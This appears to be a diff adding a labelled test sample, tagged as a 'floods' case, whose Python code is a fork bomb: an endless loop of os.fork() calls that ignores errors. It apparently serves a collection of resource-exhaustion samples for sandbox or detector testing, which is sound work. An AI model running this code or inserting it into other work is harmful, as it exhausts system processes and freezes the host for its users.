@@ -1,0 +1,13 @@
+"""family: floods
+tries: to fork without end
+honest: all
+"""
+
+# %%
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
